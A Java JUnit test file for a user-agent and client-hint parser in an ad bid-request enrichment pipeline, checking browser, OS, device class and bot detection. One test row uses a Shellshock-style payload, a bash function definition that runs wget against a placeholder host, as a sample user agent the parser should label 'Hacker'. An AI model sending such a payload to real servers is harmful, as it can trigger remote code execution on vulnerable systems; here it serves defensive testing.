package io.bidlake.domain.enrichment;

import static io.bidlake.testing.SampleEvents.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import io.bidlake.model.BidRequest;
import io.bidlake.model.BrandVersion;
import io.bidlake.model.UserAgent;
import io.bidlake.testing.SampleEvents;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.avro.util.Utf8;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class AgentTest {

  private static final String CHROME_ON_WINDOWS =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/124.0.0.0 Safari/537.36";

  private final AtomicLong nanoTime = new AtomicLong();
  private final Agent agent = new Agent(0.1, () -> nanoTime.addAndGet(1_000));
  private final List<String> invalid = new ArrayList<>();
  private final BidRequest request = SampleEvents.request("r");

  @BeforeEach
  void removeAgents() {
    request.getDevice().setUa(null);
    request.getDevice().setSua(null);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      nullValues = "-",
      textBlock =
          """
          Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1 | Safari | 17.5 | iOS | 17.5 | Phone | false
          Mozilla/5.0 (Linux; Android 14; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Safari/537.36 | Chrome | 126.0.6478.71 | Android | 14 | Tablet | false
          Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0 | Firefox | 127.0 | Ubuntu | - | Desktop | false
          Roku/DVP-12.5 (12.5.0.4178-88) | Roku | DVP-12.5 | Roku OS | DVP-12.5 | Set-top box | false
          Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) | Googlebot | 2.1 | Google Cloud | - | Robot | true
          curl/8.4.0 | Curl | 8.4.0 | Cloud | - | Robot | true
          Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36 | Chrome | 126.0.0.0 | Linux | - | Desktop | true
          () { :; }; /bin/bash -c 'wget http://example.com/x' | - | - | - | - | Hacker | false
          """)
  void isWhatTheStringSays(
      String text,
      String browser,
      String version,
      String system,
      String systemVersion,
      String deviceClass,
      boolean isBot) {
    request.getDevice().setUa(utf8(text));
    read();

    assertThat(text(agent.browser())).isEqualTo(browser);
    assertThat(text(agent.browserVersion())).isEqualTo(version);
    assertThat(text(agent.system())).isEqualTo(system);
    assertThat(text(agent.systemVersion())).isEqualTo(systemVersion);
    assertThat(text(agent.deviceClass())).isEqualTo(deviceClass);
    assertThat(agent.isDeclaredBot()).isEqualTo(isBot);
    assertThat(text(agent.parser())).isEqualTo(UserAgentParser.VERSION).startsWith("Yauaa 7.");
  }

  @Test
  void isUnknownWithoutADeviceAStringOrAReadableOne() {
    assertNothing();
    request.getDevice().setUa(utf8(" "));
    assertNothing();
    request.getDevice().setUa(utf8("\t"));
    assertNothing();
    assertThat(invalid).isEmpty();

    request.getDevice().setUa(utf8("x".repeat(513)));
    assertNothing();
    assertThat(invalid).containsExactly("device.ua");

    request.setDevice(null);
    assertNothing();
  }

  @ParameterizedTest
  @CsvSource({
    "Not/A)Brand; Chromium; Google Chrome, Chrome",
    "Google Chrome; Not A(Brand; Chromium, Chrome",
    "Chromium; Not;A=Brand; Microsoft Edge, Edge",
    "' Not A;Brand; Chromium', Chromium",
    "Chromium; (Not:A-Brand; Microsoft Edge, Edge",
    "Android WebView; Chromium, Chrome Webview",
    "Chromium, Chromium",
    "Not_A Brand, ",
    "Chromium; Brave, Brave"
  })
  void isTheBrandThatIsNeitherMadeUpNorTheEngine(String brands, String browser) {
    structured(brands.split("; "), null, null);

    assertThat(text(agent.browser())).isEqualTo(browser);
    assertThat(text(agent.browserVersion())).isEqualTo(browser == null ? null : "126.0.1");
  }

  @ParameterizedTest
  @CsvSource({
    "Windows, 15.0.0, Windows NT, 11",
    "Windows, 13, Windows NT, 11",
    "Windows, 10.0.0, Windows NT, 10",
    "Windows, 0.3.0, Windows NT, 8.1",
    "Windows, 0.1, Windows NT, 7",
    "Windows, 0, Windows NT, ",
    "Windows, NT 5, Windows NT, NT 5",
    "macOS, 14.5.0, Mac OS, 14.5.0",
    "Android, 14, Android, 14",
    "Chrome OS, , Chrome OS, ",
    "Fuchsia, 1, Fuchsia, 1"
  })
  void isThePlatformInTheWordsOfTheParser(
      String brand, String version, String system, String systemVersion) {
    structured(new String[0], platform(brand, version), 0);

    assertThat(text(agent.system())).isEqualTo(system);
    assertThat(text(agent.systemVersion())).isEqualTo(systemVersion);
    assertThat(text(agent.parser())).isNull();
    assertThat(agent.isDeclaredBot()).isNull();
  }

  @ParameterizedTest
  @CsvSource({
    "Android, 1, Phone",
    "Windows, 0, Desktop",
    "macOS, 0, Desktop",
    "Android, 0, ",
    "Windows, , ",
    "Windows, 2, "
  })
  void isAPhoneOrADesktopIfThatIsCertain(String brand, Integer mobile, String deviceClass) {
    structured(new String[0], platform(brand, "1"), mobile);

    assertThat(text(agent.deviceClass())).isEqualTo(deviceClass);
  }

  @Test
  void isStructuredFirstAndCompletedByTheString() {
    request.getDevice().setUa(utf8(CHROME_ON_WINDOWS));
    structured(new String[] {"Chromium", "Brave"}, null, null);

    assertThat(text(agent.browser())).isEqualTo("Brave");
    assertThat(text(agent.browserVersion())).isEqualTo("126.0.1");
    assertThat(text(agent.system())).isEqualTo("Windows NT");
    assertThat(text(agent.deviceClass())).isEqualTo("Desktop");
    assertThat(agent.isDeclaredBot()).isFalse();
  }

  @Test
  void isABotIfTheStructuredOneHasNoWindow() {
    structured(new String[] {"HeadlessChrome", "Chromium"}, null, null);

    assertThat(agent.isDeclaredBot()).isTrue();
  }

  @Test
  void leavesOutNamesAndVersionsThatNobodyHas() {
    structured(new String[] {"x".repeat(65), " ", "", "\u3000"}, null, null);
    assertThat(text(agent.browser())).isNull();

    UserAgent structured = request.getDevice().getSua();
    structured.setBrowsers(List.of(new BrandVersion(null, List.of(utf8("1")))));
    read();
    assertThat(text(agent.browser())).isNull();

    structured.setBrowsers(
        List.of(new BrandVersion(utf8("Brave"), List.of(utf8("1".repeat(64)), utf8("2")))));
    read();
    assertThat(text(agent.browser())).isEqualTo("Brave");
    assertThat(text(agent.browserVersion())).isNull();
  }

  @Test
  void parsesNewStringsOnlyWhileThereIsTime() {
    Agent busy = new Agent(0.1, () -> nanoTime.addAndGet(6_000_000_000L));
    request.getDevice().setUa(utf8("Seen/1.0"));
    busy.read(request, invalid::add);
    assertThat(text(busy.parser())).isEqualTo(UserAgentParser.VERSION);

    Agent other = new Agent(0, () -> nanoTime.addAndGet(6_000_000_000L));
    request.getDevice().setUa(utf8("First/1.0"));
    other.read(request, invalid::add);
    request.getDevice().setUa(utf8("Second/1.0"));
    other.read(request, invalid::add);
    assertThat(text(other.parser())).isEqualTo("skipped");
    assertThat(text(other.browser())).isNull();
    assertThat(other.isDeclaredBot()).isNull();
    assertThat(other.skipped()).isEqualTo(1);

    request.getDevice().setUa(utf8("Seen/1.0"));
    other.read(request, invalid::add);
    assertThat(text(other.parser())).isEqualTo(UserAgentParser.VERSION);
    assertThat(other.skipped()).isEqualTo(1);
  }

  @Test
  void keepsWhatItKnowsWhenTheEventIsReadAnew() {
    Utf8 text = utf8("Reused/1.0");
    request.getDevice().setUa(text);
    read();
    text.set("Changed/2.0");
    read();
    assertThat(text(agent.browser())).isEqualTo("Changed");

    request.getDevice().setUa(utf8("Reused/1.0"));
    read();
    assertThat(text(agent.browser())).isEqualTo("Reused");
  }

  private void structured(String[] brands, BrandVersion platform, Integer mobile) {
    List<Utf8> version = List.of(utf8("126"), utf8("0"), utf8("1"));
    UserAgent structured = new UserAgent();
    structured.setBrowsers(
        Arrays.stream(brands).map(brand -> new BrandVersion(utf8(brand), version)).toList());
    structured.setPlatform(platform);
    structured.setMobile(mobile);
    request.getDevice().setSua(structured);
    read();
  }

  private static BrandVersion platform(String brand, String version) {
    return new BrandVersion(
        utf8(brand),
        version == null
            ? List.of()
            : Arrays.stream(version.split("\\.")).map(SampleEvents::utf8).toList());
  }

  private void assertNothing() {
    read();
    assertThat(text(agent.browser())).isNull();
    assertThat(text(agent.browserVersion())).isNull();
    assertThat(text(agent.system())).isNull();
    assertThat(text(agent.systemVersion())).isNull();
    assertThat(text(agent.deviceClass())).isNull();
    assertThat(agent.isDeclaredBot()).isNull();
    assertThat(text(agent.parser())).isNull();
  }

  private static String text(Utf8 value) {
    return value == null ? null : value.toString();
  }

  private void read() {
    agent.read(request, invalid::add);
  }
}
